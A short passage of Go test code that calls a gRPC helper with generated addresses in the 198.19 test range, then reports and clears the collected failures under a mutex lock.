			a.callGRPC(t.Context(), target, text, fmt.Sprintf("198.19.%d.%d", number>>8&255, number&255))
		}
		a.mu.Lock()
		defer a.mu.Unlock()
		for _, failure := range a.failures {
			t.Error(failure)
		}
		a.failures = nil
	})
}
